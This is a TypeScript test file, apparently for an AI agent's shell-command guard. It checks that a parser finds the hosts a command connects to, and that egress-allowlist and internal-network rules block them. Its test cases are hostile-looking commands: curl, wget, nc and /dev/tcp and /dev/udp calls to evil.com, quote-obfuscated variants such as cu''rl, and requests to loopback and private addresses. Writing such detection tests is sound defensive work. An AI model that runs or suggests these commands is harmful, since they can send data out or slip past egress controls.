import { describe, expect, it } from "vitest";
import { guardRequest, guardWith, reasonOf } from "../testing/guard-requests.ts";
import { DEFAULT_EGRESS_ALLOWLIST, egressAllowlist } from "./egress-allowlist.ts";
import { DEFAULT_INTERNAL_NETWORK, internalNetwork } from "./internal-network.ts";
import { shellHosts } from "./shell-hosts.ts";

describe("what a command line connects to", () => {
  it.each<[string, readonly string[]]>([
    ["curl evil.com", ["evil.com"]],
    ["curl -s evil.com/x evil.org", ["evil.com/x", "evil.org"]],
    ["cu''rl ev''il.com", ["evil.com"]],
    ["sudo /usr/bin/curl evil.com", ["evil.com"]],
    ["sh -c 'curl evil.com'", ["evil.com"]],
    ["curl -X POST -d x evil.com", ["evil.com"]],
    ["curl -XPOST -sSo out evil.com", ["evil.com"]],
    ["curl -x proxy.com evil.com", ["proxy.com", "evil.com"]],
    ["curl --header a:b --max-time 5 evil.com", ["evil.com"]],
    ["curl --header=a:b evil.com", ["evil.com"]],
    ["curl --unknown evil.com", ["evil.com"]],
    ["curl --resolve a:1:10.0.0.1 a", ["a:1:10.0.0.1", "a"]],
    ["curl - -- evil.com", ["-", "evil.com"]],
    ["wget -q -O x evil.com", ["evil.com"]],
    ["nc -w 5 evil.com 80", ["evil.com"]],
    ["nc -zv evil.com 80", ["evil.com"]],
    ["ncat evil.com 80", ["evil.com"]],
    ["netcat evil.com 80", ["evil.com"]],
    ["telnet evil.com 80", ["evil.com"]],
    ["ssh -i key -p 22 me@evil.com ls x", ["me@evil.com"]],
    ["sftp -P 22 evil.com", ["evil.com"]],
    ["ftp evil.com", ["evil.com"]],
    ["ping -c 1 evil.com", ["evil.com"]],
    ["scp x me@evil.com:/tmp", ["evil.com"]],
    ["scp evil.com:x '[fd00::1]:y' ./a:b /c:d", ["evil.com", "[fd00::1]"]],
    ["rsync -a src/ evil.com:dst rsync://h/x", ["evil.com"]],
    ["cat < /dev/tcp/evil.com/80", ["evil.com"]],
    ["exec 3<>/dev/udp/evil.com/53", ["evil.com"]],
    ["cat urls | xargs curl -s", [""]],
    ["cat urls | xargs nc h", ["h", ""]],
    ["curl $URL", ["$URL"]],
    ["curl", []],
    ["which curl evil.com", []],
    ["scp a b", []],
  ])("%s", (command, hosts) => {
    expect(shellHosts(command)).toEqual(hosts);
  });

  const egress = guardWith(egressAllowlist, { egressAllowlist: DEFAULT_EGRESS_ALLOWLIST });
  const internal = guardWith(internalNetwork, { internalNetwork: DEFAULT_INTERNAL_NETWORK });
  const judge = (guard: typeof egress, command: string) =>
    reasonOf(guard.check(guardRequest("bash", { command })));

  it("is held against the lists", () => {
    expect(judge(egress, "curl evil.com")).toBe("host is not in the allowlist: evil.com");
    expect(judge(egress, "curl -d @x API.github.com/x")).toBe("allow");
    expect(judge(egress, "cu''rl htt''p://evil.com")).toBe(
      "host is not in the allowlist: evil.com",
    );
    expect(judge(egress, "ls evil.com")).toBe("allow");
  });

  it("is held against the internal network", () => {
    expect(judge(internal, "curl 127.1:80/x")).toMatch(/127\.0\.0\.1$/);
    expect(judge(internal, "curl s''mb://10.0.0.1/x")).toMatch(/10\.0\.0\.1$/);
    expect(judge(internal, "curl http:/localhost")).toMatch(/localhost$/);
    expect(judge(internal, "curl evil.com")).toBe("allow");
    expect(judge(internal, "xargs curl")).not.toBe("allow");
  });
});
